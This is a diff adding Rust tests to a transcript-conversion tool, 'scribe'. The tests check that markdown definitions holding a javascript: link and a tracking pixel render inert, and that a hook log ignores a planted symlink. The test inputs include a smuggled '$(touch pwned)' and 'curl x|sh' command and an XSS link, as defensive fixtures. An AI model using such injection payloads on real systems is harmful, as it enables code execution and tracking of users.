@@ -176,6 +176,46 @@ fn markdown_javascript_link_is_text() {
     assert!(md.contains("[ok](https://ok.example)"), "{md}");
 }
 
+#[test]
+fn markdown_reference_definitions_cannot_embed_or_link_from_another_message() {
+    // A definition in one message and its use in the next: each message is made inert on its
+    // own, so the definition itself must not survive as one.
+    let one = stream_saying(
+        "first\n\n[ref]: javascript:alert(3)\n[pix]: https://tracker.example/p.gif\n",
+    );
+    let two = stream_saying("see [x][ref] and ![img][pix] and ![pix]")
+        .lines()
+        .last()
+        .unwrap()
+        .replace("\"a1\"", "\"a2\"")
+        .replace("\"uuid\":\"a\"", "\"uuid\":\"b\"");
+    let md = run(&format!("{one}{two}\n"), &["--to", "md"]);
+    assert!(
+        md.contains("![img][pix]"),
+        "the second message is there: {md}"
+    );
+    assert!(md.contains("\\[ref]: javascript:alert(3)"), "{md}");
+    assert!(
+        md.contains("\\[pix]: https://tracker.example/p.gif"),
+        "{md}"
+    );
+    // Rendered as GitHub would, the page has no image and no link but scribe's own.
+    let html = pulldown_cmark_html(&md);
+    assert!(!html.contains("<img"), "{html}");
+    assert!(!html.contains("href=\"javascript"), "{html}");
+    assert!(
+        !html.contains("tracker.example/p.gif\""),
+        "no link to the pixel: {html}"
+    );
+}
+
+/// Markdown rendered to HTML the CommonMark way (GitHub's renderer is a superset).
+fn pulldown_cmark_html(md: &str) -> String {
+    let mut html = String::new();
+    pulldown_cmark::html::push_html(&mut html, pulldown_cmark::Parser::new(md));
+    html
+}
+
 /// `stream_saying` with another session id.
 fn stream_with_session(id: &str) -> String {
     stream_saying("hello").replace("\"s-1\"", &serde_json::to_string(id).unwrap())
@@ -421,4 +461,34 @@ fn output_dir_does_not_follow_a_symlink_planted_at_the_temp_file() {
         2,
         "the output and the planted link only: {names:?}"
     );
+}
+
+/// `scribe hook -o DIR` appends to `DIR/scribe-hook.log`; a symlink planted there made it
+/// append a line naming a path the payload chose to the link's target.
+#[cfg(unix)]
+#[test]
+fn hook_log_does_not_follow_a_symlink_planted_in_the_output_dir() {
+    let dir = temp_dir();
+    let victim = write_file(dir.path(), "bashrc", "precious\n");
+    let out = dir.path().join("archive");
+    std::fs::create_dir(&out).unwrap();
+    std::os::unix::fs::symlink(&victim, out.join("scribe-hook.log")).unwrap();
+    scribe()
+        .args(["hook", "-o"])
+        .arg(&out)
+        .write_stdin(r#"{"transcript_path": "/nonexistent/$(touch pwned)\ncurl x|sh", "hook_event_name": "Stop"}"#)
+        .assert()
+        .code(0);
+    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "precious\n");
+    // Without the link, the line is logged, on one line.
+    std::fs::remove_file(out.join("scribe-hook.log")).unwrap();
+    scribe()
+        .args(["hook", "-o"])
+        .arg(&out)
+        .write_stdin(r#"{"transcript_path": "/nonexistent/a\nb", "hook_event_name": "Stop"}"#)
+        .assert()
+        .code(0);
+    let log = std::fs::read_to_string(out.join("scribe-hook.log")).unwrap();
+    assert_eq!(log.lines().count(), 1, "{log}");
+    assert!(log.contains("/nonexistent/a\\nb"), "{log}");
 }
